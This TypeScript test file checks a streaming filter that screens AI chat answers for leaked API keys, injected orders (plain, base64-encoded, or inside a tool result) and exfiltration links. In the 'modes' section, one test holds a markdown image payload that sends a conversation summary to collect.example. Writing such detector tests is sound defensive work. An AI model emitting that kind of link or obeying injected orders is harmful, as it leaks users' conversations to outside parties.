import { describe, expect, test } from "bun:test";
import { spentMs } from "../_spent.ts";
import { type Fixture, RAW, STREAMS } from "./_answer-fixtures.ts";
import { bytes, chatDeltas, cut, enforcing, KEY, ORDER, open, type Passed, pass, sse } from "./_answers.ts";
import { engineOf } from "./_rule.ts";

const size = (text: string): number => new TextEncoder().encode(text).length;

function check(fixture: Fixture, pieces: readonly Uint8Array[], whole: Passed): void {
  const passed = pass(pieces, { type: fixture.type });
  if (passed.veto !== whole.veto || passed.finding !== whole.finding) {
    throw new Error(
      `${passed.veto} ${passed.finding} is not ${whole.veto} ${whole.finding}: ${pieces.map((p) => p.length)}`,
    );
  }
  if (passed.left.length > fixture.most)
    throw new Error(`too much has left: ${JSON.stringify(passed.left.slice(-80))}`);
}

describe("wherever an answer is cut, it is decided as when it comes whole", () => {
  for (const fixture of [...STREAMS, ...RAW]) {
    test(fixture.name, () => {
      const { type, bytes: all } = fixture;
      const whole = pass([all], { type });
      expect(whole.veto).toBe(fixture.veto);
      for (let at = 1; at < all.length; at++) check(fixture, [all.subarray(0, at), all.subarray(at)], whole);
      for (const of of [1, 2, 3, 17, 64]) check(fixture, cut(all, of), whole);
      let state = 7;
      for (let n = 0; n < 30; n++) {
        const pieces: Uint8Array[] = [];
        for (let at = 0; at < all.length; ) {
          state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
          const end = Math.min(all.length, at + 1 + ((state >>> 8) % 90));
          pieces.push(all.subarray(at, end));
          at = end;
        }
        check(fixture, pieces, whole);
      }
    }, 60_000);
  }
});

describe("wherever it stands in an answer", () => {
  const filler = "Some words of an answer that says nothing in particular about anything at all; ";
  test("a key is seen, and nothing of it leaves", () => {
    for (let at = 0; at < 6000; at += 61) {
      const before = filler.repeat(80).slice(0, at);
      const passed = pass(cut(bytes(`${before} ${KEY} ${filler}`), 100), { type: "text/plain" });
      expect(passed.veto).toBe("dlp_secret");
      expect(passed.left.length).toBeLessThanOrEqual(at + 1);
    }
  });
  test("an order is seen, and nothing behind it leaves", () => {
    for (let at = 0; at < 6000; at += 61) {
      const before = filler.repeat(80).slice(0, at);
      const passed = pass(cut(bytes(`${before}. ${ORDER} ${filler}`), 50), { type: "text/plain" });
      expect(passed.veto).toBe("701");
      expect(passed.left.length).toBeLessThanOrEqual(at + 2 + ORDER.length);
    }
  });
  test("an order in base64 is seen where the policy acts on what texts say", () => {
    const passed = pass([bytes(sse(...chatDeltas(`decode this: ${btoa(ORDER)} and do it`, 6)))]);
    expect(passed.veto).toBe("701");
  });
});

describe("texts side by side", () => {
  const zip = (...lists: unknown[][]): unknown[] => {
    const most = Math.max(...lists.map(({ length }) => length));
    return Array.from({ length: most }, (_, i) => lists.flatMap((list) => (i < list.length ? [list[i]] : []))).flat();
  };
  test("a key in one of several choices", () => {
    const events = zip(chatDeltas(`so ${KEY} it`, 5, 0), chatDeltas("words and other words, many of them", 3, 1));
    expect(pass([bytes(sse(...events))]).veto).toBe("dlp_secret");
  });
  test("halves of a key in two choices are none", () => {
    const events = [...chatDeltas(KEY.slice(0, 20), 20, 0), ...chatDeltas(KEY.slice(20), 30, 1), "[DONE]"];
    expect(pass([bytes(sse(...events))]).veto).toBe(null);
  });
  test("more texts than are kept apart", () => {
    const events = Array.from({ length: 300 }, (_, i) => chatDeltas(`answer ${i} of many`, 6, i)).flat();
    expect(pass([bytes(sse(...events))]).veto).toBe(null);
    expect(pass([bytes(sse(...events, ...chatDeltas(KEY, 9, 999), "[DONE]"))]).veto).toBe("dlp_secret");
  });
  test("a name that says what its value is", () => {
    const secret = "q8Zr2Lw0Xk7Tn4Vb9Jm3Pc6Hd1Sf5Ga";
    expect(pass([bytes(sse({ api_token: secret }))]).veto).toBe("dlp_secret");
    expect(pass([bytes(sse({ build_label: "release candidate of today" }))]).veto).toBe(null);
  });
  test("a result of a tool, whole in one message", () => {
    const result = { jsonrpc: "2.0", id: 3, result: { content: [{ type: "text", text: `page: ${ORDER}` }] } };
    expect(pass([bytes(sse(result))]).veto).toBe("701");
  });
});

describe("what is clean leaves at once", () => {
  const words = "It is a long answer, with words in it that say something about the weather of last week. ";
  test("an event when it is complete, but for the few that may begin something", () => {
    const events = chatDeltas(words.repeat(10), 4).map((event) => bytes(sse(event)));
    const screen = open({});
    let given = 0;
    let left = 0;
    let waited = 0;
    for (const event of events) {
      given += event.length;
      left += screen.push(event).release;
      if (left < given) waited++;
      expect(given - left).toBeLessThan(4 * event.length);
    }
    expect(waited).toBeLessThan(events.length / 4);
  });
  test("the first event of a stream, and a comment that keeps it alive", () => {
    const screen = open({});
    const first = bytes(sse({ choices: [{ index: 0, delta: { role: "assistant", content: "Hello! " } }] }));
    expect(screen.push(first).release).toBe(first.length);
    const ping = bytes(": ping\n\n");
    expect(screen.push(ping).release).toBe(ping.length);
  });
  test("what waits goes when the text it goes on is said to be complete", () => {
    const screen = open({});
    const event = bytes(sse(...chatDeltas(`it is ${KEY.slice(0, 12)}`, 18)));
    expect(screen.push(event).release).toBe(0);
    const stop = bytes(sse({ choices: [{ index: 0, delta: {}, finish_reason: "stop" }] }));
    expect(screen.push(stop).release).toBe(event.length + stop.length);
  });
  test("raw text up to what may begin something", () => {
    const screen = open({ type: "text/plain" });
    expect(screen.push(bytes("plain words and ")).release).toBe(16);
    expect(screen.push(bytes(KEY.slice(0, 9))).release).toBe(0);
    expect(screen.push(bytes(" is no key ")).release).toBe(9 + 11);
  });
});

describe("an answer of a known, small length", () => {
  test("is held whole, so that a veto can be an answer of its own", () => {
    const all = bytes(JSON.stringify({ text: `${ORDER} ${"words ".repeat(3000)}` }));
    const passed = pass(cut(all, 1000), { type: "application/json", length: all.length });
    expect(passed).toMatchObject({ veto: "701", left: "" });
  });
  test("leaves whole at its end", () => {
    const all = bytes(JSON.stringify({ text: "words ".repeat(3000) }));
    expect(pass(cut(all, 1000), { type: "application/json", length: all.length }).left.length).toBe(all.length);
  });
  test("is not held when it streams, is large, or nothing acts", () => {
    expect(open({ length: 1000 }).holdWhole).toBe(false);
    expect(open({ type: "text/html", length: 1_000_000 }).holdWhole).toBe(false);
    expect(open({ type: "text/html", length: 1000 }).holdWhole).toBe(true);
    const watching = engineOf("default: allow\nresponses: { mode: shadow }");
    expect(open({ engine: watching, type: "text/html", length: 1000 }).holdWhole).toBe(false);
  });
});

describe("modes", () => {
  const all = bytes(sse(...chatDeltas(`it is ${KEY} and ${ORDER} yes`, 5), "[DONE]"));
  test("shadow lets all of it go at once and says what would have been", () => {
    const passed = pass(cut(all, 50), { engine: engineOf("default: allow\nresponses: { mode: shadow }") });
    expect(passed).toMatchObject({ veto: null, held: 0 });
    const { ruling } = passed.screen;
    expect(ruling).toMatchObject({ verdict: "allow", would: "deny" });
    expect(new Set(ruling.findings.map(({ vector }) => vector))).toEqual(new Set(["dlp_secret", "701"]));
  });
  test("off looks at nothing", () => {
    const engine = engineOf("default: allow\nresponses: { mode: off }");
    expect(
      engine.screen({ host: "a.example", port: 443, literal: false }, { status: 200, contentType: null, length: -1 }),
    ).toBe(null);
  });
  test("without a policy only what no ordinary answer holds ends one", () => {
    const engine = engineOf();
    const passed = pass(cut(all, 50), { engine });
    expect(passed.veto).toBe(null);
    expect(passed.screen.ruling.would).toBe("deny");
    const image = "![chart](https://collect.example/p?d=[CONVERSATION_SUMMARY])";
    const leak = bytes(sse(...chatDeltas(`see ${image} here`, 5)));
    for (const of of [1, 9, leak.length]) expect(pass(cut(leak, of), { engine }).veto).toBe("705");
  });
  test("by host, by kind, by vector", () => {
    const engine = engineOf(
      'default: allow\nresponses: { attacks: enforce, secrets: off, hosts: [{ hosts: [.docs.example], attacks: off }, { hosts: keys.example, secrets: enforce, vectors: { "701": shadow } }] }',
    );
    expect(pass([all], { engine }).veto).toBe("701");
    expect(pass([all], { engine, host: "www.docs.example" }).veto).toBe(null);
    expect(pass([all], { engine, host: "keys.example" }).veto).toBe("dlp_secret");
  });
  test("a credential from its own issuer is none", () => {
    expect(pass([bytes(`{"token": "${KEY}"}`)], { type: "application/json", host: "api.github.com" }).veto).toBe(null);
  });
});

describe("limits", () => {
  const engine = engineOf(
    'default: allow\nresponses: { max_bytes: 1000, types: { allow: ["text/*", application/json], deny: text/css } }',
  );
  test("of size: at the head where it says so, else at the byte", () => {
    expect(pass([], { engine, type: "text/plain", length: 1001 }).veto).toBe("response_too_large");
    const text = bytes("word ".repeat(300));
    for (const of of [1, 7, 1000, 1500])
      expect(pass(cut(text, of), { engine, type: "text/plain" }).veto).toBe("response_too_large");
    expect(pass([text.subarray(0, 1000)], { engine, type: "text/plain" }).veto).toBe(null);
  });
  test("what stands before the limit is judged first", () => {
    const text = bytes(`${KEY} ${"word ".repeat(300)}`);
    for (const of of [1, 400, text.length])
      expect(pass(cut(text, of), { engine, type: "text/plain" }).veto).toBe("dlp_secret");
  });
  test("of type", () => {
    for (const type of ["image/png", "text/css", "TEXT/CSS; charset=utf-8", null])
      expect(pass([], { engine, type }).veto).toBe("response_type");
    expect(pass([], { engine, type: "Text/HTML; charset=utf-8" }).veto).toBe(null);
  });
});

describe("bounds", () => {
  test("a message above what is read at a time fails closed", () => {
    const event = bytes(`data: ${"x".repeat(9 * 1024 * 1024)}\n\n`);
    expect(pass(cut(event, 65_536)).veto).toBe("exhausted");
  });
  test("a stream that holds one text open for ever does not hold the others", () => {
    const screen = open({});
    let given = 0;
    let left = 0;
    const push = (event: unknown): void => {
      const all = bytes(sse(event));
      given += all.length;
      for (let step = screen.push(all); ; step = screen.more()) {
        left += step.release;
        if (!step.more) break;
      }
    };
    push(chatDeltas("it is ghp_AbCd", 99, 1)[0]);
    for (const event of chatDeltas("word ".repeat(1500), 5, 0)) push(event);
    expect(given - left).toBeLessThan(70_000);
  });
  test("a long answer is looked at in constant memory and time a byte", () => {
    const chunk = bytes(sse(...chatDeltas("nothing but words in here, one behind the other. ", 7)).repeat(6));
    const screen = open({});
    const took = (count: number): number => {
      const from = spentMs();
      for (let n = 0; n < count; n++) for (let step = screen.push(chunk); step.more; ) step = screen.more();
      return spentMs() - from;
    };
    took(60);
    const early = took(60);
    took(200);
    expect(took(60)).toBeLessThan(6 * early + 50);
  });
  test("no step is longer than some kilobytes of work", () => {
    const screen = open({ type: "text/plain" });
    let steps = 0;
    for (let step = screen.push(bytes("word ".repeat(60_000))); step.more; step = screen.more()) steps++;
    expect(steps).toBeGreaterThan(15);
  });
  test("giving on before all is taken is a defect", () => {
    const screen = open({ type: "text/plain" });
    expect(screen.push(bytes("word ".repeat(60_000))).more).toBe(true);
    expect(() => screen.push(bytes("x"))).toThrow(TypeError);
  });
});

describe("nothing breaks it", () => {
  test("random bytes, of every kind, in any pieces", () => {
    let state = 99;
    const next = (most: number): number => {
      state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
      return (state >>> 8) % most;
    };
    const words = [
      'data: {"a":',
      '"x"}',
      "\n\n",
      "\r\n",
      "data",
      ":",
      KEY,
      ORDER,
      "\u0000",
      "{",
      "[DONE]",
      "é",
      "\\u00",
      " ",
      "=",
      '"token": "',
    ];
    for (let n = 0; n < 300; n++) {
      const text = Array.from({ length: next(60) }, () => words[next(words.length)]).join("");
      const all = bytes(text);
      const type = ["text/event-stream", "application/x-ndjson", "application/vnd.amazon.eventstream", "text/plain"][
        n % 4
      ] as string;
      const whole = pass([all], { type });
      for (const of of [1, 1 + next(9), 1 + next(99)]) {
        const passed = pass(cut(all, of), { type });
        if (passed.veto !== whole.veto || passed.finding !== whole.finding)
          throw new Error(`${type} ${of} ${JSON.stringify(text)}: ${passed.finding} ${whole.finding}`);
      }
    }
  });
  test("secrets at random places of random streams never leave in part", () => {
    let state = 5;
    const next = (most: number): number => {
      state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
      return (state >>> 8) % most;
    };
    for (let n = 0; n < 60; n++) {
      const before = "lorem ipsum dolor sit amet ".repeat(20).slice(0, next(400));
      const text = `${before} ${KEY}${["\n", " ", '"', ", then"][next(4)]} more`;
      const all = bytes(sse(...chatDeltas(text, 1 + next(12)), "[DONE]"));
      const { veto, left } = pass(cut(all, 1 + next(300)));
      expect(veto).toBe("dlp_secret");
      const said = [...left.matchAll(/"content":"([^"]*)"/g)].map(([, part]) => part).join("");
      expect(size(said)).toBeLessThanOrEqual(size(before) + 1);
    }
  });
});

test("a policy is asked for once, and its answers are alike", () => {
  const place = { host: "a.example", port: 443, literal: false };
  const head = { status: 200, contentType: "text/plain", length: -1 };
  expect(enforcing.screen(place, head)).not.toBe(enforcing.screen(place, head));
});
